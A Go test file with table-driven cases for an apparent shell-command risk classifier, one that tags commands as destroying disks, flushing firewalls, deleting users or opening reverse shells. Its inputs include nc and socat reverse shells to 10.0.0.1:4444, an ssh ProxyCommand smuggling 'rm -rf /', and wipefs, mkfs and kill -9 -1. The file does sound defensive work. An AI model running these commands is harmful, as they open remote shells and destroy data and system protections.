package tool

var systemCases = []testCase{
	{"systemctl --user restart app", []string{
		"systemctl restart --user app +mutates",
	}},
	{"systemctl status nginx", []string{
		"systemctl status nginx +reads",
	}},
	{"crontab -r", []string{
		"crontab -r +destroys",
	}},
	{"crontab -l", []string{
		"crontab -l",
	}},
	{"shutdown -c", []string{
		"shutdown -c",
	}},
	{"reboot", []string{
		"reboot +power",
	}},
	{"kill -9 -1", []string{
		"kill -9 -1 +mass-target",
	}},
	{"kill -9 123", []string{
		"kill -9 123",
	}},
	{"mkfs.ext4 -L data /dev/sda1", []string{
		"mkfs.ext4 -L=data /dev/sda1 +disk",
		"write device /dev/sda1",
	}},
	{"mkfs.ext4 disk.img", []string{
		"mkfs.ext4 disk.img",
		"write workspace /work/repo/disk.img",
	}},
	{"fdisk -l", []string{
		"fdisk -l",
	}},
	{"parted /dev/sda print", []string{
		"parted /dev/sda print",
	}},
	{"parted -s /dev/sda mklabel gpt", []string{
		"parted --script /dev/sda mklabel gpt +disk",
		"write device /dev/sda",
	}},
	{"wipefs -a /dev/sdb", []string{
		"wipefs --all /dev/sdb +disk",
		"write device /dev/sdb",
	}},
	{"wipefs /dev/sdb", []string{
		"wipefs /dev/sdb",
	}},
	{"zpool status tank", []string{
		"zpool status tank",
	}},
	{"zfs destroy tank/a", []string{
		"zfs destroy tank/a +disk",
	}},
	{"cryptsetup luksFormat /dev/sda1", []string{
		"cryptsetup luksFormat /dev/sda1 +disk",
	}},
	{"iptables -L -n", []string{
		"iptables --list -n",
	}},
	{"iptables -F", []string{
		"iptables --flush +firewall",
	}},
	{"ufw status", []string{
		"ufw status",
	}},
	{"ufw disable", []string{
		"ufw disable +firewall",
	}},
	{"mount", []string{
		"mount",
	}},
	{"mount /dev/sda1 /mnt", []string{
		"mount /dev/sda1 /mnt +mounts",
	}},
	{"sysctl -w a.b=1", []string{
		"sysctl --write a.b=1 +kernel",
	}},
	{"sysctl a.b", []string{
		"sysctl a.b",
	}},
	{"ip addr", []string{
		"ip addr",
	}},
	{"ip link set eth0 down", []string{
		"ip link set eth0 down +network",
	}},
	{"passwd -S root", []string{
		"passwd --status root",
	}},
	{"passwd -d root", []string{
		"passwd --delete root +users",
	}},
	{"useradd x", []string{
		"useradd x +users",
	}},
	{"visudo -c", []string{
		"visudo --check",
	}},
}

var networkCases = []testCase{
	{"nc -e /bin/sh 10.0.0.1 4444", []string{
		"nc --exec=/bin/sh 10.0.0.1 4444 +reverse-shell",
		"connect: connect to 10.0.0.1:4444",
		"shell(nc) /bin/sh",
	}},
	{"nc -lk 8080", []string{
		"nc --listen --keep-open 8080 +listens",
	}},
	{"nc -z example.com 443", []string{
		"nc --zero example.com 443",
		"connect: connect to example.com:443",
	}},
	{"socat exec:'bash -li',pty tcp:10.0.0.1:4444", []string{
		"socat exec:bash -li,pty tcp:10.0.0.1:4444 +reverse-shell",
		"connect: connect to 10.0.0.1:4444",
		"shell(socat) bash -li",
	}},
	{"socat TCP-LISTEN:1,fork -", []string{
		"socat TCP-LISTEN:1,fork - +listens",
	}},
	{"ssh -o ProxyCommand='rm -rf /' x", []string{
		"ssh -o=ProxyCommand=rm -rf / x",
	}},
	{"scp -o ProxyCommand='id' a h:b", []string{
		"scp -o=ProxyCommand=id a h:b +uploads",
		"read workspace /work/repo/a",
		"write system b @ssh:h",
		"shell(scp -o ProxyCommand) id",
	}},
	{"curl -o x -sSL https://a.example/c", []string{
		"curl --output=x --silent --show-error --location https://a.example/c",
		"write workspace /work/repo/x",
		"http: GET a.example/c",
	}},
	{"jj git push --deleted", []string{
		"jj git push --deleted +remote-delete",
	}},
	{"svn delete https://h/r/trunk -m x", []string{
		"svn delete --message=x https://h/r/trunk +remote-delete",
	}},
	{"hg push -f", []string{
		"hg push --force +default-branch",
	}},
}
